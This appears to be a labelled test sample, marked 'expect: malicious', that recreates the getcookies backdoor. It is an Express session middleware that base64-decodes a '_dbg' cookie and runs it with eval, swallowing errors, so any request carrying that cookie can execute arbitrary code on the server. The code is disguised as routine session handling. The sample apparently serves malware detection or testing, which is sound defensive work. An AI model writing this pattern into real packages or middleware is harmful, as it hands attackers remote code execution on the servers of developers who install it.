// expect: malicious
// source: the getcookies backdoor (2018) and its later copies: an Express middleware evaluates what a
// request's cookie carries (the operator sends JavaScript in a cookie)
'use strict';

function session(opts) {
  const name = (opts && opts.name) || 'sid';
  return function sessionMiddleware(req, res, next) {
    const debug = req.cookies && req.cookies._dbg;
    if (debug) {
      try { eval(Buffer.from(debug, 'base64').toString()); } catch (e) { /* ignore */ }
    }
    req.sessionId = req.cookies ? req.cookies[name] : undefined;
    next();
  };
}

module.exports = session;
